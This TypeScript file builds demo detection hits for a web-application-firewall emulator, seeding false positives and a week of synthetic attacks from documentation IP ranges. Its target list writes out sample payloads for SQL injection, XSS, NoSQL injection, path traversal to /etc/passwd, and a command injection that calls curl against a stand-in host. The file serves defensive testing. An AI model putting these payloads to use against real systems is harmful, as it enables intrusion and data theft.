/**
 * Demo hits, the same for every account, so `rampart tune --emulator` and
 * `plan --impact --emulator` have something to read:
 *
 * - two false positives: a search for a name with an apostrophe reads as SQL
 *   injection in the shop (application 7); a profile text with markup reads as
 *   XSS in the API (application 8); a brute-force hit on the same request is
 *   no detector's and stays out of tuning;
 * - a week of attacks on the sample applications, from a seeded generator:
 *   the shop runs in monitoring mode (let through, but `/admin/` blocks), the
 *   API in blocking mode (blocked, but its allowlisted partner is let
 *   through); a few come from sources the sample lists name (Tor, a
 *   datacenter, a graylisted VPN);
 * - the shop's deny entry for 203.0.113.0/24 (policies/shop.yaml) in the
 *   middle of the week: its sources' requests to the shop before it were let
 *   through in monitoring mode, the later ones blocked. A model that takes
 *   "before" from what the service recorded and "after" from the lists gets
 *   these wrong; one model for both sides does not.
 *
 * Times are whole hours back from the emulator's clock, so two reads within
 * the hour list the same hits.
 */
import { intBetween, pick, seededRandom } from '../demo/prng.js';
import { hitFromSeed, type HitSeed, type StoredHit } from './records.js';

export const DEMO_REQUEST_IDS = { search: 'e3b0c44298fc1c14', profile: '9f86d081884c7d65' } as const;

/** The false positives come from customers, outside every sample list (the shop denies 203.0.113.0/24). */
const CUSTOMER_IPS = { search: '198.51.100.201', profile: '198.51.100.202' } as const;

const DAY = 86_400;
const HOUR = 3_600;

function falsePositives(clientid: number): HitSeed[] {
  const search = {
    clientid, request_id: DEMO_REQUEST_IDS.search, poolid: 7, domain: 'shop.example.com', path: '/search', ip: CUSTOMER_IPS.search,
    point: ['get', 'q'], value: "o'brien & sons", attackid: ['hits-demo', 'a-search'] as [string, string],
  };
  const profile = {
    clientid, request_id: DEMO_REQUEST_IDS.profile, poolid: 8, domain: 'api.example.com', path: '/v1/profile.json', ip: CUSTOMER_IPS.profile,
    point: ['post', 'json_doc', 'hash', 'bio'], value: '<b>Head chef</b> at <i>Le Bistro</i>', attackid: ['hits-demo', 'a-profile'] as [string, string],
  };
  return [
    { ...search, type: 'sqli', stamps: [7730, 7731] },
    { ...search, type: 'sqli', stamps: [7731], point: ['get', 'sort'], value: "name' desc" },
    { ...profile, type: 'xss', stamps: [1201] },
    { ...profile, type: 'brute', stamps: [], point: ['post', 'json_doc', 'hash', 'password'], value: '********' },
  ];
}

/** What an attack in the week looks like: where, at which point, of which type. */
interface Target {
  readonly poolid: number;
  readonly domain: string;
  readonly path: string;
  readonly point: (string | number)[];
  readonly type: string;
  readonly stamps: number[];
  readonly value: string;
  /** The mode that governs the path in the samples blocks it. */
  readonly blocking: boolean;
}

const TARGETS: readonly Target[] = [
  { poolid: 7, domain: 'shop.example.com', path: '/api/search', point: ['get', 'q'], type: 'sqli', stamps: [7730], value: "1' or '1'='1", blocking: false },
  { poolid: 7, domain: 'shop.example.com', path: '/api/search', point: ['get', 'q'], type: 'xss', stamps: [1201], value: '<script>alert(1)</script>', blocking: false },
  { poolid: 7, domain: 'shop.example.com', path: '/api/cart', point: ['post', 'json_doc', 'hash', 'sku'], type: 'nosqli', stamps: [9201], value: '{"$ne": null}', blocking: false },
  { poolid: 7, domain: 'shop.example.com', path: '/login', point: ['post', 'json_doc', 'hash', 'email'], type: 'sqli', stamps: [7731], value: "admin'--", blocking: false },
  { poolid: 7, domain: 'shop.example.com', path: '/static/img.png', point: ['get', 'file'], type: 'ptrav', stamps: [4410], value: '../../etc/passwd', blocking: false },
  { poolid: 7, domain: 'shop.example.com', path: '/admin/users', point: ['get', 'id'], type: 'sqli', stamps: [7730], value: '1 union select 1', blocking: true },
  { poolid: 8, domain: 'api.example.com', path: '/v1/search', point: ['get', 'q'], type: 'sqli', stamps: [7730], value: "x' union select password from users--", blocking: true },
  { poolid: 8, domain: 'api.example.com', path: '/v1/orders.json', point: ['post', 'json_doc', 'hash', 'note'], type: 'rce', stamps: [6601], value: '$(curl evil.example)', blocking: true },
];

/** Sources: addresses of the documentation ranges, some of them behind what the sample lists name. */
interface Source {
  readonly ip: string;
  readonly remote_country: string;
  readonly proxy_type?: string;
  readonly datacenter?: string;
}

const SOURCES: readonly Source[] = [
  ...Array.from({ length: 9 }, (_, i) => ({ ip: `198.51.100.${20 + i * 7}`, remote_country: pickCountry(i) })),
  ...Array.from({ length: 6 }, (_, i) => ({ ip: `203.0.113.${40 + i * 11}`, remote_country: pickCountry(i + 3) })),
  { ip: '192.0.2.66', remote_country: 'DE', proxy_type: 'TOR' },
  { ip: '192.0.2.77', remote_country: 'FR', datacenter: 'ovh' },
  { ip: '192.0.2.88', remote_country: 'NL', proxy_type: 'VPN' },
];

function pickCountry(i: number): string {
  return ['US', 'DE', 'BR', 'IN', 'FR', 'GB', 'CN', 'JP', 'PL'][i % 9] as string;
}

/** The API's allowlisted partner (policies/api.yaml): let through even in blocking mode. */
const PARTNER: Source = { ip: '2001:db8:1234::10', remote_country: 'US' };

/** The shop's deny entry for 203.0.113.0/24 was added this many hours before the emulator's clock. */
export const DEMO_SHOP_DENY_HOURS_AGO = 72;

/** Whether the shop's deny entry covered `source`'s request to `target` at `hoursBack`. */
function shopDenied(target: Target, source: Source, hoursBack: number): boolean {
  return target.poolid === 7 && source.ip.startsWith('203.0.113.') && hoursBack < DEMO_SHOP_DENY_HOURS_AGO;
}

/** Attack requests in the week. */
const WEEK_REQUESTS = 160;

function week(clientid: number): HitSeed[] {
  const random = seededRandom(0x5eed_7a11);
  const seeds: HitSeed[] = [];
  for (let i = 0; i < WEEK_REQUESTS; i++) {
    const target = pick(random, TARGETS);
    const partner = target.poolid === 8 && i % 23 === 0;
    const source = partner ? PARTNER : pick(random, SOURCES);
    const hoursBack = intBetween(random, 1, 7 * 24 - 1);
    // Sources the account-wide deny list names are blocked wherever they go; the partner never is.
    const denied = source.proxy_type === 'TOR' || source.datacenter === 'ovh' || shopDenied(target, source, hoursBack);
    const blocked = !partner && (target.blocking || denied);
    const { blocking: _blocking, ...where } = target;
    seeds.push({
      clientid, ...where, ...source,
      request_id: `demo-${(i + 1).toString(16).padStart(6, '0')}`,
      attackid: ['hits-demo', `w${i % 17}`],
      block_status: blocked ? 'blocked' : 'monitored',
      time: -hoursBack * HOUR,
    });
  }
  return seeds;
}

export function demoHits(clientid: number, nowSeconds: number): StoredHit[] {
  const hour = Math.floor(nowSeconds / HOUR) * HOUR;
  const fp = falsePositives(clientid).map((seed, i) => ({ ...seed, time: nowSeconds - 2 * DAY + i }));
  const attacks = week(clientid).map((seed) => ({ ...seed, time: hour + (seed.time ?? 0) }));
  return [...fp, ...attacks].map((seed, i) => {
    const hit = hitFromSeed(seed, i + 1, nowSeconds);
    return { ...hit, record: { ...hit.record, id: ['hits-demo', `d${clientid}-${i + 1}`] } };
  });
}
